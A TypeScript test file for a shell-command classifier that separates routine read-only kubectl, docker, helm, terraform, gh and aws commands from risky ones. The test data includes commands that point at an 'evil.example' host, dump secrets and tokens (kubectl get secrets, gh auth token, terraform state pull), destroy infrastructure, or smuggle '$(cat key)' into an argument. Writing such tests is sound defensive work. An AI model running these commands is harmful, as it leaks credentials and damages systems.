import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { readShell } from './read-shell.ts';

const looks: readonly string[] = [
  ...['kubectl get pods -n orders -o wide', 'kubectl describe pod web-7f -n orders | tail -30', 'kubectl top nodes'],
  ...['kubectl logs deploy/web --previous --tail=50', 'kubectl get events --sort-by=.lastTimestamp | tail'],
  ...['docker ps -a', 'docker compose logs --tail=20 web', 'helm lint charts/web', 'helm list -A'],
  ...['helm template web charts/web -f charts/web/values.yaml | grep -A3 limits', 'terraform fmt -check -recursive'],
  ...['terraform -chdir=infra plan -no-color', 'tofu validate', 'gh pr checks 8', 'gh run view 17 --log-failed'],
  ...["aws ec2 describe-instance-types --instance-types t3.small --query 'InstanceTypes[].MemoryInfo'"],
];

/** Leads elsewhere, hands out secrets or environments, changes something, or runs a text. */
const more: readonly string[] = [
  ...['kubectl get secrets -n x', 'kubectl get pods,secrets', 'kubectl get pods -o yaml', 'kubectl get cm -o name'],
  ...[
    'kubectl get pods --kubeconfig ./x',
    'kubectl --server=https://evil.example get pods',
    'kubectl get -f x.yaml pods',
  ],
  ...['kubectl get pods --token=x', 'kubectl get --raw /api', 'kubectl -s evil.example get pods', 'kubectl get pod* x'],
  ...['kubectl exec web -- env', 'kubectl cp web:/x y', 'kubectl apply -f x', 'kubectl rollout undo deploy/web'],
  ...['kubectl config view --raw', 'kubectl logs web $(cat key)', 'kubectl top', 'kubectl', './kubectl get pods'],
  ...['docker -H evil.example ps', 'docker inspect web', 'docker compose config', 'docker compose exec web env'],
  ...['docker run x', 'docker --config ./x ps', 'docker --context x ps', 'docker compose up'],
  ...['helm template x oci://evil.example/x', 'helm template x charts/x --post-renderer ./y', 'helm get values x'],
  ...[
    'helm template x evil/x',
    'helm template x ./../y',
    'helm lint ../x',
    'helm --kube-apiserver=https://evil.example list',
  ],
  ...['terraform apply', 'terraform plan -out=Makefile', 'terraform -chdir=../x plan', 'terraform output -json'],
  ...[
    'terraform plan -chdir',
    'terraform state pull',
    'terraform destroy',
    'terraform init',
    'terraform plan -var=x=y',
  ],
  ...['gh pr view 8 -R evil/x', 'gh auth token', 'gh auth status -t', 'gh api /user', 'gh pr view evil/x#1'],
  ...['gh pr view https://evil.example/pull/1', 'gh pr view --web', 'gh pr view 8 --jq env', 'gh pr merge 8', 'gh'],
  ...[
    'aws s3 ls s3://evil',
    'aws lambda list-functions',
    'aws ec2 describe-instances --endpoint-url https://evil.example',
  ],
  ...['aws ec2 describe-instances --profile x', 'aws ec2 describe-instance-attribute --attribute userData', 'aws ec2'],
  ...['AWS_PROFILE=x aws sts get-caller-identity', 'DOCKER_HOST=x docker ps', 'sudo docker ps', 'kubectl get pods &'],
  ...['kubectl get pods > x', 'echo pods | xargs kubectl get', 'env KUBECONFIG=x kubectl get pods'],
];

describe('looking at what a project runs on', () => {
  test('is routine, and no reading: another machine is asked', () => {
    for (const text of looks) {
      const { routine, readOnly, unclear } = readShell(text);
      const local = /^(?:terraform (?:fmt|validate)|tofu|helm lint)/.test(text);
      assert.deepEqual({ routine, readOnly, unclear }, { routine: true, readOnly: false, unclear: false }, text);
      assert.ok(local || readShell(text).network, text);
    }
  });

  test('whatever else these programs do is none, with any of their words (C-9)', () => {
    for (const text of more) assert.equal(readShell(text).routine, false, text);
  });
});
